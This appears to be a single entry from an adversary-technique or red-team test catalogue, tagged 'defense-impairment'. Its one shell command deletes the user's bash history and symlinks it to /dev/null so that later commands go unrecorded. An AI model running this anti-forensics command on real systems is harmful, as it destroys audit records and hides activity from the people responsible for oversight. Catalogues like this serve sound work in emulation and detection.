# tactic: defense-impairment
# delete the shell history and link it to /dev/null
rm -f $HOME/.bash_history; ln -sf /dev/null $HOME/.bash_history
